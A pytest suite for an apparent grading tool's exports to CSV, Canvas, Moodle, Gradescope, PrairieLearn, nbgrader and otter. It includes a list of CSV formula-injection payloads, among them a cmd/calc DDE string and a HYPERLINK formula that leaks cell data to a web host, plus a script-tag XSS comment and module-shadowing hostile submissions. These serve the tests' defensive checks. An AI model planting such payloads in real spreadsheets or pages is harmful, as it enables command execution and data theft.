"""Exports: no cell is a formula, files are filled in byte for byte, autograders and notebooks run end to end."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import stat
import subprocess
import sys
import unicodedata
import zipfile
from dataclasses import replace
from importlib import import_module
from pathlib import Path

import pytest
from jsonschema import Draft202012Validator

from tutor.cli import app
from tutor.errors import NotFoundError, ReadingError, UsageError
from tutor.grading import batch
from tutor.grading.assignment import parse
from tutor.grading.exports import FORMATS, canvas, common, csv_file, filled, gradescope, moodle, prairielearn
from tutor.grading.exports import nbgrader as nbgrader_export
from tutor.grading.exports import otter as otter_export
from tutor.grading.exports.people import People, Unclear
from tutor.grading.feedback import Feedback, LineShown, QuestionShown
from tutor.grading.model import LearnerGrade, Problem, QuestionGrade, Submission
from tutor.saving import lay_out, replaced

SCHEMAS = Path(__file__).parent / "schemas"

TWO = """
format = "tutor.assignment/1"
id = "homework-3"
title = "Backprop by hand"  # a private remark
secret = "very-secret-9f86"
follow_through = 0.5

[[questions]]
exercise = "softmax-regression"
id = "q1"
points = { W = 2, b = 1 }

[[questions]]
exercise = "linear-regression"
id = "q2"
"""
VARIES = TWO.replace('id = "q1"', 'id = "q1"\ndraw.sizes = { N = [3, 4] }')
RIGHT = "dz = (p - y)/N\ndW = x.T @ dz\ndb = dz.sum(0)\n"
PART = "dz = (p - y)/N\ndW = x.T @ dz\ndb = dz\n"  # W is worth 2 of 3
WRONG = "dW = x.T @ p\ndb = p.sum()\n"
UNREADABLE = "dW = = \nfoo(((\n"


def assignment(text=TWO, folder=Path()):
    return parse(text, folder / "homework.toml")


def grade(learner="ann", points=(2.5, 1.0), person="Ann Lee", problems=(), **more):
    questions = tuple(
        QuestionGrade(name, got, most) for name, got, most in zip(("q1", "q2"), points, (3.0, 2.0), strict=True)
    )
    found = tuple(("q1.py", Problem(id, f"{id} it is")) for id in problems)
    return LearnerGrade(learner, person, questions, found, **more)


def feedback(points=(2.5, 1.0), problems=()):
    total = None if None in points else sum(points)
    lines = (LineShown(2, "dW = x.T @ dz", "dW", "correct"),)
    questions = (
        QuestionShown("q1", "Softmax & <co>", "softmax-regression", points[0], 3.0, lines=lines),
        QuestionShown("q2", "", "linear-regression", points[1], 2.0),
    )
    return Feedback("homework-3", "Backprop", "ann", "Ann Lee", total, 5.0, questions, tuple(problems))


# -- the table -------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("format", FORMATS, ids=lambda format: format.name)
def test_each_format_has_a_file_and_a_command(format):
    import_module(f"tutor.grading.exports.{'csv_file' if format.name == 'csv' else format.name}")
    command = app.commands["export"].commands[format.name]
    assert [p.name for p in command.params if p.name in ("results", "assignment")] == [format.reads]
    assert format.specification


# -- CSV -------------------------------------------------------------------------------------------------------------

HOSTILE = [
    "=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", "\u00a0=1", "\u200b=1", "\ufeff=1", "\u3000=1",
    "＝1+1", "＋1", "－1", "＠SUM", "−1", "﹢1", '"=1', "a;=1+1", "a\n=cmd|' /C calc'!A0", 'a"=1', 'x"; =1', "\x00=1",
    "=HYPERLINK(\"http://example.org?\"&A1)", "a;\u200b=1", "\x1b=1",
]  # fmt: skip
HARMLESS = ["Ann Lee", "O'Neil, Zoë", "李安", 'say "hi"', "x.T @ dz", "a=b", "dz = p - y", "", "line 3: a - b"]


def starts_formula(cell):
    """As the most lenient reader has it: what is invisible does not count."""
    bare = "".join(c for c in cell if unicodedata.category(c)[0] not in "ZC")
    return bare.lstrip('"')[:1] in tuple("=+-@＝＋－＠−﹢﹦﹣﹫")


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_starts_a_formula(text, delimiter):
    """However a spreadsheet splits the file, by its own language's separator as well."""
    stream = io.StringIO()
    row = grade(learner=text, person=text, problems=())
    row = replace(row, problems=((text, Problem("unreadable", text)),))
    csv_file.write(csv_file.rows([row], assignment()), stream)
    for cells in csv.reader(io.StringIO(stream.getvalue()), delimiter=delimiter):
        for cell in cells:
            for line in cell.split("\n"):
                assert not starts_formula(line), cells


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_stays_as_it_is(text):
    assert csv_file.safe(text) == text


CSV_ROWS = [
    (grade(), ["ann", "Ann Lee", "2.5", "1", "3.5", "5", "graded", ""]),
    (grade(points=(None, 1.0), problems=["undecided"]),
     ["ann", "Ann Lee", "", "1", "", "5", "by hand", "q1.py: undecided it is"]),
    (grade(points=(0.0, 0.0), handed_in=False), ["ann", "Ann Lee", "0", "0", "0", "5", "nothing handed in", ""]),
    (grade(known=False, points=(1 / 3, 0.1 + 0.2)),
     ["ann", "Ann Lee", "0.333333333333", "0.3", "0.633333333333", "5", "unknown learner", ""]),
]  # fmt: skip


@pytest.mark.parametrize(("made", "row"), CSV_ROWS, ids=lambda x: "" if isinstance(x, list) else x.learner)
def test_a_row_of_the_table(made, row):
    assert list(csv_file.rows([made], assignment()))[1] == row


def test_the_table_is_read_by_csv_readers_and_each_cell_is_quoted(tmp_path):
    path = tmp_path / "grades.csv"
    with path.open("w", encoding=csv_file.ENCODING, newline="") as stream:
        assert csv_file.write(csv_file.rows([grade(person="李安, A"), grade("bo")], assignment()), stream) == 2
    data = path.read_bytes()
    assert data.startswith(b'\xef\xbb\xbf"learner","name","q1","q2","total","max","status","problems"\r\n')
    with path.open(encoding="utf-8-sig", newline="") as stream:
        assert [row["name"] for row in csv.DictReader(stream)] == ["李安, A", "Ann Lee"]
    pandas = pytest.importorskip("pandas")
    frame = pandas.read_csv(path)
    assert list(frame.columns)[0] == "learner" and list(frame["total"]) == [3.5, 3.5]


def test_rows_come_one_by_one():
    def endless():
        while True:
            yield grade()

    rows = csv_file.rows(endless(), assignment())
    assert [next(rows)[0] for _ in range(3)] == ["learner", "ann", "ann"]


def test_a_question_that_is_called_as_a_column_of_ours():
    rows = csv_file.rows([], assignment(TWO.replace('"q1"', '"total"')))
    assert next(rows) == ["learner", "name", "total (question)", "q2", "total", "max", "status", "problems"]


# -- who is who ------------------------------------------------------------------------------------------------------

CLASS = [
    ("ann", "Ann Lee", {"canvas": "4711", "email": "ann@example.org", "section": "A"}),
    ("bo", "Bo Lee", {"canvas": "4712", "login": "bo7", "section": "A"}),
    ("12", "Cy Lee", {"moodle": "4711"}),
    ("dee1", "Dee Poe", {}),
    ("dee2", "Poe, Dee", {}),
]
WHO = [
    ({"system": "4711"}, "ann"),
    ({"system": "12"}, None),  # a number of ours is not one of Canvas
    ({"ids": ["BO7"]}, "bo"),
    ({"ids": ["A"]}, None),  # a section is no one's id
    ({"ids": ["ann@example.org"], "names": ["Bo Lee"]}, "ann"),
    ({"ids": ["nobody"], "names": ["Lee, Bo"]}, "bo"),
    ({"ids": ["ann@example.org", "bo7"]}, Unclear),
    ({"names": ["Dee Poe"]}, Unclear),
    ({"ids": [""], "names": [""]}, None),
]


@pytest.mark.parametrize(("called", "learner"), WHO, ids=str)
def test_who_a_row_is(called, learner):
    people = People(CLASS, "canvas")
    if learner is Unclear:
        with pytest.raises(Unclear, match="may be"):
            people.find(**called)
    else:
        assert people.find(**called) == learner


def test_an_accent_may_be_a_letter_of_its_own():
    """As a Mac writes it."""
    people = People([("zk", "Zo\u00eb Kim", {"login": "zo\u00eb"})], "canvas")
    assert people.find(names=["Kim, Zoe\u0308"]) == people.find(ids=["Zoe\u0308"]) == "zk"


# -- Canvas ----------------------------------------------------------------------------------------------------------

CANVAS = (
    "Student,ID,SIS User ID,SIS Login ID,Section,Backprop by hand (101),Backprop by hand 2 (102),Final Score\r\n"
    ",,,,,Manual Posting,,\r\n"
    "    Points Possible,,,,,5.00,10.00,(read only)\r\n"
    '"Lee, Ann",4711,,ann@example.org,"Lab ""1"", early",,7,12.5\r\n'
    '"Lee, Bo",4712,,bo7,Lab 1,"1.00",,\r\n'
    '"Poe, Dee",13,,x,Lab 1,,,\r\n'
    '"Fox, Eve",14,,eve,Lab 1,EX,,\r\n'
    '"Gru, Fay",15,,fay,Lab 1,N/A,,\r\n'
    '"Open, Gus",16,,gus,Lab 1,3,,\r\n'
    '"Late, Hal",17,,hal,Lab 1,,,\r\n'
    '"Guest, Ida",18,,ida,Lab 1,,,\r\n'
    '"Student, Test",99,,5a0e,Lab 1,,,\r\n'
)


def class_of(system="canvas"):
    made = [grade(id, person=person, aliases=aliases) for id, person, aliases in CLASS]
    made += [grade(id, person=person) for id, person in [("eve", "Eve Fox"), ("fay", "Fay Gru")]]
    made.append(grade("gus", (None, 1.0), "Gus Open"))
    made.append(grade("hal", (0.0, 0.0), "Hal Late", handed_in=False))
    return made


def put(path, text):
    path.write_bytes(text.encode())
    return path


def test_canvas_one_column_is_filled_in_and_all_else_is_the_same_bytes(tmp_path):
    made = canvas.fill(put(tmp_path / "g.csv", CANVAS), class_of(), "Backprop by hand")
    wanted = CANVAS.replace('early",,7', 'early",3.5,7').replace('Lab 1,"1.00"', 'Lab 1,"3.5"')
    assert made.table.data().decode() == wanted
    assert made.written == 2
    assert dict(made.left) == {
        "Poe, Dee": "it may be dee1, dee2",
        "Fox, Eve": "excused",
        "Gru, Fay": "not assigned",
        "Open, Gus": "not graded yet: a person has to look",
        "Late, Hal": "handed in nothing",
        "Guest, Ida": "nobody of that id or name was graded",
        "Cy Lee": "has no row here",
    }


def test_canvas_zeros_are_given_where_that_is_wanted(tmp_path):
    made = canvas.fill(put(tmp_path / "g.csv", CANVAS), class_of(), "Backprop by hand", zeros=True)
    assert '"Late, Hal",17,,hal,Lab 1,0,,\r\n' in made.table.text()


DIALECTS = [
    ("as it is", lambda text: text, "3.5"),
    ("mark", lambda text: "\ufeff" + text, "3.5"),
    ("unix", lambda text: text.replace("\r\n", "\n"), "3.5"),
    ("no end", lambda text: text.removesuffix("\r\n"), "3.5"),
    ("mixed", lambda text: text.replace("\r\n", "\n", 3), "3.5"),
    ("semicolons", lambda text: re.sub(r',(?=(?:[^"]*"[^"]*")*[^"]*$)', ";", text).replace("5.00", "5,00"), "3,5"),
    ("tabs", lambda text: re.sub(r',(?=(?:[^"]*"[^"]*")*[^"]*$)', "\t", text), "3.5"),
]


@pytest.mark.parametrize(("change", "points"), [row[1:] for row in DIALECTS], ids=[row[0] for row in DIALECTS])
def test_canvas_dialects_stay_as_they_are(tmp_path, change, points):
    text = change(CANVAS)
    made = canvas.fill(put(tmp_path / "g.csv", text), [class_of()[0]], "Backprop by hand")
    data = made.table.data().decode()
    mark = re.search(r'early"(.)', text)[1]
    assert data == text.replace(f'early"{mark}{mark}7', f'early"{mark}{points}{mark}7')
    assert made.written == 1


REFUSED = [
    (CANVAS, {"title": "Backprop"}, UsageError, r'(?s)"Backprop"; name one with --column.*Backprop by hand \(101\)'),
    (CANVAS.replace("hand 2", "hand"), {"title": "Backprop by hand"}, UsageError, r"several columns.*101.*102"),
    (
        CANVAS,
        {"title": "x", "column": "Backprop by hand 2 (102)"},
        UsageError,
        "out of 10 points, and the assignment of 5",
    ),
    ("a,b\n1,2\n", {"title": "x"}, UsageError, "no gradebook of Canvas"),
    ("", {"title": "x"}, ReadingError, "empty"),
]


@pytest.mark.parametrize(("text", "how", "kind", "says"), REFUSED)
def test_canvas_refuses_with_what_there_is(tmp_path, text, how, kind, says):
    with pytest.raises(kind, match=says):
        canvas.fill(put(tmp_path / "g.csv", text), class_of(), **how)


def test_canvas_scales_where_that_is_wanted(tmp_path):
    path = put(tmp_path / "g.csv", CANVAS)
    made = canvas.fill(path, class_of(), "x", column="Backprop by hand 2 (102)", scaled=True)
    assert made.table.text().splitlines()[3:7] == [
        '"Lee, Ann",4711,,ann@example.org,"Lab ""1"", early",,7,12.5',
        '"Lee, Bo",4712,,bo7,Lab 1,"1.00",7,',
        '"Poe, Dee",13,,x,Lab 1,,,',
        '"Fox, Eve",14,,eve,Lab 1,EX,7,',
    ]


def test_canvas_two_rows_of_one_learner_are_left_alone(tmp_path):
    text = CANVAS.replace("4712,,bo7", "4999,,ann")
    made = canvas.fill(put(tmp_path / "g.csv", text), class_of()[:1], "Backprop by hand")
    assert made.table.text() == text and made.written == 0


def test_files_that_cannot_be_read(tmp_path):
    with pytest.raises(NotFoundError, match="cannot open"):
        filled.read(tmp_path / "none.csv")
    (tmp_path / "latin.csv").write_bytes(b"Student,ID\nZo\xeb,1\n")
    with pytest.raises(ReadingError, match="not UTF-8"):
        filled.read(tmp_path / "latin.csv")


@pytest.mark.parametrize("text", [
    'a,"b ""c""",d\r\n', "a,b", "a,\n", '"x\ny",2\n\n3,4\n', 'a "quoted" b,c\n', '"a"b,c\n', ",,,\r\n,,,\r\n", '"',
    '"open,\n1,2\n',
])  # fmt: skip
def test_a_table_that_nobody_changed_is_the_same_text(text):
    assert filled.parse(text).text() == text


# -- Moodle ----------------------------------------------------------------------------------------------------------

MOODLE = (
    '\ufeffIdentifier,"Full name","Email address",Status,Grade,"Maximum Grade","Grade can be changed",'
    '"Last modified (submission)","Last modified (grade)","Feedback comments"\n'
    'Participant 4711,"Cy Lee",cy@example.org,"Submitted for grading - ",,5.00,Yes,'
    '"Monday, 7 December 2026, 9:00 PM",-,\n'
    'Participant 4712,"Ann Lee",ann@example.org,"Submitted for grading - ",1.00,5.00,Yes,"Monday",-,"<p>old</p>"\n'
    'Participant 4713,"Bo Lee",bo@example.org,"Submitted for grading - ",2.00,5.00,No,"Monday",-,"kept"\n'
    'Participant 4714,"Dee Poe",dee@example.org,"No submission - ",,5.00,Yes,-,-,\n'
)


def test_moodle_grades_and_comments_are_filled_in_and_all_else_is_the_same_bytes(tmp_path):
    told = 'see <script>alert(1)</script>\n"line 2"'
    made = moodle.fill(put(tmp_path / "g.csv", MOODLE), class_of(), lambda _: told)
    comment = '"<pre>see &lt;script&gt;alert(1)&lt;/script&gt;\n&quot;line 2&quot;</pre>"'
    wanted = MOODLE.replace('",,5.00,Yes,"Monday, 7 December 2026, 9:00 PM",-,', (
        '",3.5,5.00,Yes,"Monday, 7 December 2026, 9:00 PM",-,' + comment)
    )  # fmt: skip
    wanted = wanted.replace("1.00,5.00", "3.5,5.00").replace('"<p>old</p>"', comment)
    assert made.table.data().decode() == wanted
    left = dict(made.left)
    assert left["Bo Lee"] == "its grade cannot be changed" and left["Dee Poe"] == "it may be dee1, dee2"
    assert made.written == 2


def test_moodle_refuses_another_file_and_another_scale(tmp_path):
    with pytest.raises(UsageError, match="no grading worksheet"):
        moodle.fill(put(tmp_path / "g.csv", CANVAS), class_of(), lambda _: "")
    with pytest.raises(UsageError, match="out of 100 points"):
        moodle.fill(put(tmp_path / "g.csv", MOODLE.replace("5.00", "100.00")), class_of(), lambda _: "")
    with pytest.raises(UsageError, match=r"(?s)no column is called.*Maximum Grade"):
        moodle.fill(put(tmp_path / "g.csv", MOODLE), class_of(), lambda _: "", column="Note")


# -- results.json ----------------------------------------------------------------------------------------------------


def sound(schema, document):
    checker = Draft202012Validator(json.loads((SCHEMAS / f"{schema}-results.json").read_text("utf-8")))
    Draft202012Validator.check_schema(checker.schema)
    assert [error.message for error in checker.iter_errors(json.loads(common.json_bytes(document)))] == []


TOLD = [
    ((3.0, 2.0), ()),
    ((2.5, 1.0), ()),
    ((0.0, 0.0), ()),
    ((None, 2.0), ("undecided",)),
    ((0.0, 0.0), ("unreadable",)),
]


@pytest.mark.parametrize(("points", "problems"), TOLD)
def test_gradescope_results(points, problems):
    made = gradescope.results(feedback(points, [("q1.py", f"{id} it is") for id in problems]))
    sound("gradescope", made)
    assert made.get("score") == (None if None in points else sum(points))
    scores = [test.get("score") for test in made["tests"]]
    assert scores == ([None, None] if None in points else list(points))
    assert all(f"{id} it is" in made["output"] for id in problems)
    assert ("person has to look at Softmax & <co>" in made["output"]) == (None in points)
    assert [test["name"] for test in made["tests"]] == ["Softmax & <co>", "q2"]


@pytest.mark.parametrize(("points", "problems"), TOLD)
def test_prairielearn_results(points, problems):
    told = feedback(points, [("q1.py", f"{id} it is") for id in problems])
    made = prairielearn.results(told, grade(points=points, problems=problems))
    sound("prairielearn", made)
    assert made["gradable"] == (not problems)
    assert made.get("score") == (None if problems else pytest.approx(sum(points) / 5))
    if problems:
        assert made["format_errors"] == (["unreadable it is"] if None not in points else [common.look_by_hand(told)])


def test_prairielearn_takes_no_more_than_a_megabyte():
    long = tuple(LineShown(n, "\x00" * 900, "dW", "correct") for n in range(2_000))
    questions = tuple(replace(question, lines=long) for question in feedback().questions)
    told = replace(feedback(), questions=questions, problems=[("q", "\x01" * 2_000_000)])
    assert len(common.json_bytes(prairielearn.results(told, grade()))) < 1_000_000
    assert len(common.json_bytes(prairielearn.results(replace(told, points=None), grade()))) < 1_000_000


def test_the_schemas_refuse_what_the_systems_would_not_take():
    for schema, document in [
        ("gradescope", {"tests": []}),
        ("gradescope", {"score": 1, "visibility": "everybody"}),
        ("gradescope", {"output": "half", "tests": [{"score": 1}, {}]}),
        ("prairielearn", {"gradable": True}),
        ("prairielearn", {"score": 1.5}),
        ("prairielearn", {"gradable": False}),
    ]:
        with pytest.raises(AssertionError):
            sound(schema, document)


@pytest.mark.parametrize("document", [gradescope.failure(common.failed())])
def test_a_failure_of_ours_has_no_score(document):
    sound("gradescope", document)
    sound("prairielearn", prairielearn.ungradable([common.failed()]))
    assert "score" not in document and "says nothing about the answer" in document["output"]


# -- autograders, end to end -----------------------------------------------------------------------------------------


def on_gradescope(root, files, user, text=TWO, roster=None, here=False, **environment):
    """Unpack the zip as Gradescope does, run run_autograder (or, `here`, what it runs), and read results.json."""
    home = root / "made"
    home.mkdir(parents=True)
    if roster is not None:
        text = text.replace("\n[[questions]]", 'roster = "class.csv"\n\n[[questions]]', 1)
        (home / "class.csv").write_text(roster, "utf-8")
    data = gradescope.autograder(assignment(text, home))
    place = root / "autograder"
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        archive.extractall(place / "source")
    (place / "run_autograder").write_bytes((place / "source" / "run_autograder").read_bytes())
    (place / "submission").mkdir()
    for name, sheet in files.items():
        (place / "submission" / name).write_text(sheet, "utf-8")
    (place / "submission_metadata.json").write_text(json.dumps({"users": [user]}), "utf-8")
    if here:
        gradescope.main(str(place))
        return written(place, "gradescope")
    return ran(place / "run_autograder", place, AUTOGRADER_ROOT=place, **environment)


def ran(script, place, **environment):
    surroundings = {**os.environ, "AUTOGRADER_PYTHON": sys.executable, "GRADE_PYTHON": sys.executable}
    surroundings |= {name: str(value) for name, value in environment.items()}
    surroundings["PYTHONPATH"] = str(Path(__file__).parent.parent)
    subprocess.run(["bash", script], env=surroundings, capture_output=True, timeout=120)
    return written(place, "gradescope" if "AUTOGRADER_ROOT" in environment else "prairielearn")


def written(place, system):
    document = json.loads((place / "results" / "results.json").read_text("utf-8"))
    sound(system, document)
    return document


ANN = {"email": "ann@example.org", "id": 1234, "name": "Ann Lee"}


@pytest.mark.parametrize(("sheet", "score"), [(RIGHT, 3.0), (PART, 2.0), (WRONG, 0.0), (UNREADABLE, 0.0), ("", 0.0)])
def test_gradescope_end_to_end(tmp_path, sheet, score):
    sheets = {"q1.py": sheet and f"# exercise: softmax-regression\n{sheet}"}
    document = on_gradescope(tmp_path, sheets, ANN, here=sheet != PART)
    assert document["score"] == score and [test["max_score"] for test in document["tests"]] == [3.0, 2.0]
    assert "dW" not in document["output"]


def test_gradescope_what_is_handed_in_is_never_run_and_its_modules_are_not_imported(tmp_path):
    hostile = f"import pathlib\npathlib.Path({str(tmp_path / 'ran')!r}).touch()\n"
    files = {"tutor.py": hostile, "sitecustomize.py": hostile, "json.py": hostile, "q1.py": hostile + RIGHT}
    document = on_gradescope(tmp_path, files, ANN)
    assert not (tmp_path / "ran").exists() and document["output"]


def test_gradescope_the_roster_tells_whose_variant_it_is(tmp_path):
    roster = "learner,name,email\nann7,Ann Lee,ann@example.org\n"
    sheets = {"q1.py": f"# exercise: softmax-regression\n{RIGHT}"}
    document = on_gradescope(tmp_path / "a", sheets, ANN, VARIES, roster, here=True)
    assert document["score"] == 3.0
    eve = {"email": "eve@example.org", "name": "Eve"}
    document = on_gradescope(tmp_path / "b", sheets, eve, VARIES, roster, here=True)
    assert "score" not in document and "not on the course's list" in document["output"]


FAILURES = [
    {"AUTOGRADER_PYTHON": "/nonexistent/python"},
    {"AUTOGRADER_PYTHON": "false"},
    {"AUTOGRADER_SECONDS": "0.01"},
]


@pytest.mark.parametrize("environment", FAILURES, ids=str)
def test_gradescope_says_that_the_grader_failed_whatever_happens_to_it(tmp_path, environment):
    document = on_gradescope(tmp_path, {"q1.py": RIGHT}, ANN, **environment)
    assert document == gradescope.failure(common.failed())


def test_gradescope_a_fault_within_is_ours(tmp_path, capsys):
    (tmp_path / "source" / "assignment").mkdir(parents=True)
    (tmp_path / "source" / "assignment" / "assignment.toml").write_text("no toml", "utf-8")
    gradescope.main(str(tmp_path))
    assert json.loads((tmp_path / "results" / "results.json").read_text("utf-8")) == gradescope.failure(common.failed())
    assert "AssignmentError" in capsys.readouterr().out  # for the teacher


def test_the_zip_has_the_same_bytes_and_runs(tmp_path):
    wheel = tmp_path / f"derivation_tutor-{gradescope.__version__}-py3-none-any.whl"
    wheel.write_bytes(b"a wheel")
    (tmp_path / "own.py").write_text("own = 1\n", "utf-8")
    text = TWO.replace('"linear-regression"', '"own.py"')
    data = gradescope.autograder(assignment(text, tmp_path), gradescope.checked_wheel(wheel))
    assert data == gradescope.autograder(assignment(text, tmp_path), wheel)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.namelist() == [
            "assignment/assignment.toml", "assignment/own.py", "run_autograder", "setup.sh", f"wheels/{wheel.name}",
        ]  # fmt: skip
        modes = {info.filename: info.external_attr >> 16 for info in archive.infolist()}
        assert all(bool(mode & stat.S_IXUSR) == ("/" not in name) for name, mode in modes.items())
        setup = archive.read("setup.sh").decode()
    assert f"$here/wheels/{wheel.name}" in setup and setup.startswith("#!/usr/bin/env bash\n")
    assert f"derivation-tutor=={gradescope.__version__}" in gradescope.autograder(assignment()).decode("latin-1")
    for script in ("setup.sh", "run_autograder"):
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            assert subprocess.run(["bash", "-n"], input=archive.read(script), check=True).returncode == 0


@pytest.mark.parametrize("name", ["other-1.0-py3-none-any.whl", "derivation_tutor-0.0.0-py3-none-any.whl"])
def test_another_wheel_is_refused(name):
    with pytest.raises(UsageError, match="no wheel of derivation-tutor"):
        gradescope.checked_wheel(Path(name))


def test_what_is_taken_along_lies_beside_the_assignment(tmp_path):
    (tmp_path / "own.py").write_text("", "utf-8")
    (tmp_path / "in").mkdir()
    text = TWO.replace('"linear-regression"', '"../own.py"')
    with pytest.raises(UsageError, match="not in the assignment's folder"):
        gradescope.autograder(assignment(text, tmp_path / "in"))


def on_prairielearn(root, files, here=False, **environment):
    made = root / "question"
    lay_out(prairielearn.question(assignment()), made, executable=("tests/run.sh",))
    place = root / "grade"
    lay_out({f"student/{name}": sheet.encode() for name, sheet in files.items()}, place)
    (made / "tests").rename(place / "tests")
    if here:
        prairielearn.main(str(place))
        return written(place, "prairielearn")
    return ran(place / "tests" / "run.sh", place, GRADE_ROOT=place, **environment)


@pytest.mark.parametrize(("sheet", "score"), [(RIGHT, 0.6), (PART, 0.4), (WRONG, 0.0), (UNREADABLE, None), ("", None)])
def test_prairielearn_end_to_end(tmp_path, sheet, score):
    sheets = {"q1.py": sheet and f"# exercise: softmax-regression\n{sheet}"}
    document = on_prairielearn(tmp_path, sheets, here=sheet != PART)
    assert document["gradable"] == (score is not None)
    assert document.get("score") == (None if score is None else pytest.approx(score))


@pytest.mark.parametrize("environment", [{"GRADE_PYTHON": "false"}, {"GRADE_SECONDS": "0.01"}], ids=str)
def test_prairielearn_says_that_the_grader_failed_whatever_happens_to_it(tmp_path, environment):
    document = on_prairielearn(tmp_path, {"q1.py": RIGHT}, **environment)
    assert document == prairielearn.ungradable([common.failed()])


def test_prairielearn_question_is_complete():
    files = prairielearn.question(assignment())
    info = json.loads(files["info.json"])
    assert info["gradingMethod"] == "External" and info["type"] == "v3" and info["singleVariant"]
    assert info["externalGradingOptions"] == {
        "enabled": True, "image": prairielearn.IMAGE, "entrypoint": "/grade/tests/run.sh", "timeout": 120,
        "enableNetworking": False,
    }  # fmt: skip
    page = files["question.html"].decode()
    editors = re.findall(r'file-name="([^"]+)" source-file-name="([^"]+)"', page)
    assert editors == [("q1.py", "q1.py"), ("q2.py", "q2.py")] and "{{" not in page
    assert files["q1.py"].decode().startswith("# exercise: softmax-regression\n")
    assert files == prairielearn.question(assignment())


# -- notebooks -------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "make", [prairielearn.question, nbgrader_export.notebook, otter_export.tests], ids=lambda make: make.__module__
)
def test_an_assignment_that_varies_is_refused_where_the_learner_is_not_known(make):
    with pytest.raises(UsageError, match="does not tell the grader who the learner is"):
        make(assignment(VARIES))


def test_a_parcel_is_the_assignment_without_what_is_private(tmp_path):
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "own.py").write_text("own = 1\n", "utf-8")
    text = TWO.replace('"linear-regression"', '"sub/own.py"').replace("follow", "due = 2026-12-10T23:59:00Z\nfollow")
    made = assignment(text, tmp_path)
    parcel = common.parcel(made)
    there = common.unpacked(parcel, tmp_path / "there")
    assert (tmp_path / "there" / "sub" / "own.py").read_text("utf-8") == "own = 1\n"
    assert there.model_dump() == {**made.model_dump(), "secret": ""}
    assert parcel == common.parcel(made)


@pytest.fixture(scope="module")
def on_path():
    """The tools of the environment that runs the tests, which nbgrader looks for by name, and this checkout."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("PATH", f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}")
        patch.setenv("PYTHONPATH", str(Path(__file__).parent.parent))
        yield


FAULT = "import tutor.grading.single\ntutor.grading.single.grade_one = lambda *_: 1/0"
RIGHT_2 = "dw = 2*(w*x + b - y)*x\ndb = 2*(w*x + b - y)\n"
ANSWERS = {
    "ann": (RIGHT, WRONG),
    "bo": (PART, UNREADABLE),
    "cy": ("", RIGHT_2),
    "dee": (WRONG, "dw = ...\n"),
}
EARNED = {"ann": (3.0, 0.0), "bo": (2.0, 0.0), "cy": (0.0, 2.0), "dee": (0.0, 0.0)}


def answered(notebook, answers, before=""):
    """The notebook with an answer to each question, and perhaps a cell of the learner's own before them."""
    made = json.loads(json.dumps(notebook))
    for name, sheet in zip(("q1", "q2"), answers, strict=True):
        cell = next(c for c in made["cells"] if "".join(c["source"]).startswith(f"%%answer {name}"))
        cell["source"] = [f"%%answer {name}\n{sheet}"]
    own = {"cell_type": "code", "execution_count": None, "id": "own", "metadata": {}, "outputs": [], "source": [before]}
    if before:
        made["cells"].insert(2, own)
    return json.dumps(made)


def test_nbgrader_end_to_end(tmp_path, monkeypatch, on_path):
    """Generated, handed in, autograded by nbgrader itself: what its gradebook has."""
    api = pytest.importorskip("nbgrader.api")
    from nbgrader.apps import NbGraderAPI
    from traitlets.config import Config

    monkeypatch.chdir(tmp_path)
    lay_out({"source/hw/hw.ipynb": nbgrader_export.notebook(assignment())}, tmp_path)
    config, url = Config(), f"sqlite:///{tmp_path}/gradebook.db"
    config.CourseDirectory.root, config.CourseDirectory.db_url = str(tmp_path), url
    with api.Gradebook(url) as book:
        book.add_assignment("hw")
        for learner in (*ANSWERS, "fault"):
            book.add_student(learner)
    nbgrader = NbGraderAPI(config=config)
    assert nbgrader.generate_assignment("hw")["success"]
    released = json.loads((tmp_path / "release/hw/hw.ipynb").read_text("utf-8"))
    assert "points(" not in json.dumps(released) and "HIDDEN" not in json.dumps(released)
    copies = {learner: answered(released, answers) for learner, answers in ANSWERS.items()}
    copies["fault"] = answered(released, (RIGHT, RIGHT_2), FAULT)
    for learner, text in copies.items():
        lay_out({f"submitted/{learner}/hw/hw.ipynb": text.encode()}, tmp_path)
    done = {learner: nbgrader.autograde("hw", learner, create=False)["success"] for learner in copies}
    assert done == dict.fromkeys(ANSWERS, True) | {"fault": False}  # our fault is no grade
    with api.Gradebook(url) as book:
        found = {learner: book.find_submission("hw", learner) for learner in ANSWERS}
        grades = {learner: {g.name: g.auto_score for g in sub.notebooks[0].grades} for learner, sub in found.items()}
        assert {who: (scores["q1-q1-test"], scores["q2-q2-test"]) for who, scores in grades.items()} == EARNED
        assert {learner: sub.score for learner, sub in found.items()} == {who: sum(got) for who, got in EARNED.items()}
        assert {sub.max_score for sub in found.values()} == {5.0}
    graded = (tmp_path / "autograded/bo/hw/hw.ipynb").read_text("utf-8")
    assert "2 of 3 points" in graded and "db = dz" in graded  # the reason is in the cell
    assert "very-secret" not in graded and "private remark" not in graded


def test_otter_end_to_end(tmp_path, monkeypatch, on_path):
    """An autograder that otter generates, and submissions that it grades."""
    otter = pytest.importorskip("otter.api")
    from otter.generate import main as generate

    monkeypatch.chdir(tmp_path)
    lay_out(otter_export.tests(assignment()), tmp_path / "tests")
    notebook = json.loads(otter_export.notebook(assignment()))
    generate(tests_dir="tests", output_path="autograder.zip", no_config=True, no_requirements=True, no_environment=True)

    def graded(name, answers, before=""):
        path = tmp_path / f"{name}.ipynb"
        path.write_text(answered(notebook, answers, before), "utf-8")
        return otter.grade_submission(str(path), "autograder.zip", quiet=True)

    found = {name: graded(name, answers) for name, answers in ANSWERS.items()}
    scores = {who: tuple(results.get_result(q).score for q in ("q1", "q2")) for who, results in found.items()}
    assert scores == EARNED and {results.possible for results in found.values()} == {5.0}
    said = found["bo"].summary()
    assert "q1: dW message: dW: earned" in said and "db: not earned" in said
    assert "2 of 3 points" in said and "db = dz" in said  # the reason is with the case
    fault = graded("fault", (RIGHT, RIGHT_2), FAULT)
    assert not fault.results and fault.has_catastrophic_failure()  # grading failed; no test did


def test_otter_cases_make_the_points():
    """A quantity that may earn half has a case for each half."""
